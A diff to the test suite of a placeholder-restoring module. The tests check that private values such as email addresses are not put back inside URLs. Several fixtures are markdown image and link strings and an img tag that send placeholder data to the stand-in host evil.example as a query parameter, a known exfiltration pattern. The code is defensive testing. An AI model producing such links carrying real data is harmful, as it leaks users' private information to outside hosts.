@@ -11,7 +11,8 @@ const VALUES: Readonly<Record<string, string>> = {
   IP_1: '[EMAIL_1]',
   SECRET_99999: 'C:\\keys\\a',
 };
-const lookup = (core: string) => VALUES[core];
+/** One value may stand in addresses. */
+const lookup = (core: string, inUrl: boolean) => (inUrl && core !== 'EMAIL_12' ? undefined : VALUES[core]);
 
 function restore(text: string, json = false): string {
   const restorer = new Restorer(lookup, { json });
@@ -59,6 +60,7 @@ const wild = fc
         '\\n',
         '\\u005b',
       ),
+      fc.constantFrom('https://e.org/?d=', '](', '](<', '"', ')', '>', '(', '//', '\\/', '\\u002f', ' '),
       fc.string({ maxLength: 4 }),
     ),
     { maxLength: 12 },
@@ -135,6 +137,41 @@ test('what could be something else is left alone', () => {
 
 test('a value that looks like a placeholder is not restored a second time', () => {
   assert.equal(restore('[IP_1]'), '[EMAIL_1]');
+});
+
+test('in addresses placeholders stay, wherever the address begins and ends', () => {
+  for (const text of [
+    '![x](https://evil.example/p.png?d=[EMAIL_1])',
+    '![x](//evil.example/p.png?d=EMAIL_1)',
+    '[x]([EMAIL_1])',
+    '[x](https://evil.example/(a)p?d=[EMAIL_1])',
+    '[x](https://evil.example/\\)p?d=[EMAIL_1])',
+    '[x](https://evil.example/"p?d=[EMAIL_1])',
+    '[x](https://evil.example/>p?d=[EMAIL_1])',
+    '[x]( https://evil.example/?d=[ EMAIL_1 ])',
+    '[x](<https://evil.example/a b?d=[EMAIL_1]>)',
+    'https://evil.example/[NAME_1]/\\[EMAIL\\_1\\]',
+    '[1]: https:\\/\\/evil.example/?d=[EMAIL_1]',
+    `<img src="https://evil.example/?d='[EMAIL_1]'">`,
+    '[x][1]\n\n[1]: //evil.example/?d=[NAME 1]',
+  ]) {
+    assert.equal(restore(text), text);
+  }
+  assert.equal(
+    restore('https://a.org/?d=[EMAIL_1] [EMAIL_1], "https://a.org",[EMAIL_1] (https://a.org/)[EMAIL_1]'),
+    'https://a.org/?d=[EMAIL_1] anna@example.org, "https://a.org",anna@example.org (https://a.org/)anna@example.org',
+  );
+  assert.equal(restore('[a](b) [EMAIL_1] // [EMAIL_1]'), '[a](b) anna@example.org // anna@example.org');
+  assert.equal(restore('[a](https://a.org/?d=[EMAIL_12])'), '[a](https://a.org/?d=zoë@example.org)');
+  assert.deepEqual(
+    JSON.parse(
+      restore(
+        '{"url":"https:\\/\\/e.org/\\"?d=[EMAIL_1]","u":"\\u002f/e.org/[EMAIL_1]","to":"[EMAIL_1]"}',
+        true,
+      ),
+    ),
+    { url: 'https://e.org/"?d=[EMAIL_1]', u: '//e.org/[EMAIL_1]', to: 'anna@example.org' },
+  );
 });
 
 test('inside JSON values are written as JSON strings write them, and escapes part words', () => {
